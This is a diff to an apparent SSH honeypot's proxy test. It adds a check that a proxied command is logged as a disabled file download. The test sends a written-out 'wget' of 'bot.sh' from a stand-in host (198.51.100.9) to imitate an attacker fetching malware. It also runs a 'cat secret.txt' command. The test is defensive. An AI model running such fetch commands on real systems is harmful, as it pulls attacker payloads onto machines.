@@ -213,16 +213,23 @@ def sshproxy_exec_runs_on_backend(ctx):
     assert r.returncode == 0 and hashlib.sha256(blob).hexdigest() in r.stdout.decode(), (r.stdout, r.stderr)
     r = ssh(port, ["head -c 2000000 /dev/zero"])
     assert r.returncode == 0 and r.stdout == b"\0" * 2000000, len(r.stdout)
+    # a URL in a proxied command goes to the capture pipeline (downloads are off in tests: logged)
+    url_cmd = "wget -q -T 1 -t 1 http://198.51.100.9/bot.sh -O /dev/null; true"
+    r = ssh(port, [url_cmd])
+    assert r.returncode == 0, r.stderr
     evs = stop_and_read(d)
+    dl = by(evs, "session.file_download.failed")
+    assert [(e["url"], e["found_in"], e["reason"]) for e in dl] == [
+        ("http://198.51.100.9/bot.sh", "ssh-proxy", "disabled")], dl
     cmds = [e["input"] for e in by(evs, "command.input")]
     assert cmds == ["cat secret.txt; id -un", "touch %s && echo to-stderr >&2; exit 7" % mark, "sha256sum",
-                    "head -c 2000000 /dev/zero"], cmds
+                    "head -c 2000000 /dev/zero", url_cmd], cmds
     assert all(e.get("proxied") is True for e in by(evs, "command.input"))
-    assert len(by(evs, "login.success")) == 4
+    assert len(by(evs, "login.success")) == 5
     pcs = by(evs, "proxy.connect")
-    assert len(pcs) == 4 and all(e["result"] == "ok" and e["backend"] == "%s:22" % bk.addr for e in pcs), pcs
+    assert len(pcs) == 5 and all(e["result"] == "ok" and e["backend"] == "%s:22" % bk.addr for e in pcs), pcs
     closed = by(evs, "proxy.closed")
-    assert len(closed) == 4 and closed[2]["bytes_to_backend"] >= 300000, closed
+    assert len(closed) == 5 and closed[2]["bytes_to_backend"] >= 300000, closed
     assert closed[3]["bytes_from_backend"] >= 2000000, closed
     assert not by(evs, "proxy.fallback"), by(evs, "proxy.fallback")
     hk = one(evs, "proxy.hostkey")
